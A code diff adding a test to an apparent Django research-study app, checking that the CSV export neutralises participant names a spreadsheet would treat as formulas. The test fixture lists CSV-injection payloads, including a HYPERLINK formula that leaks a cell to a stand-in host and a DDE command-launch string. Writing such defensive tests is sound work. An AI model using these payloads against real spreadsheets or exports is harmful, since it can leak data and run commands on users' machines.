@@ -9,6 +9,7 @@ from django.utils import timezone
 from web.builders import submit
 
 from placelab.core.errors import InputError, PlacelabError
+from placelab.core.study import load
 from placelab.web.studies.models import (
     Answer,
     Invitation,
@@ -144,3 +145,19 @@ def test_the_export_writes_the_rows_the_analysis_reads(small_wave, tmp_path):
     with (tmp_path / "people.csv").open(encoding="utf-8", newline="") as handle:
         rows = list(csv.DictReader(handle))
     assert rows == [cells for _row, cells in tables.people.rows]
+
+
+ATTACKS = ('=HYPERLINK("http://evil.example/?leak="&A1,"x")', "+SUM(1,2)", "@cmd|' /C calc'!A0")
+
+
+def test_names_a_spreadsheet_would_run_export_as_text_and_analyse_as_they_were(
+    small_wave, tmp_path
+):
+    for key, name in zip(("p06", "p07", "p08"), ATTACKS, strict=True):
+        Participant.objects.filter(study=small_wave.study, key=key).update(name=name)
+    paths = wave_export(wave=small_wave, folder=tmp_path)
+    with paths["people.csv"].open(encoding="utf-8", newline="") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
+    people = load(paths["people.csv"], paths["ties.csv"]).people
+    assert [people.loc[key, "name"] for key in ("p06", "p07", "p08")] == list(ATTACKS)
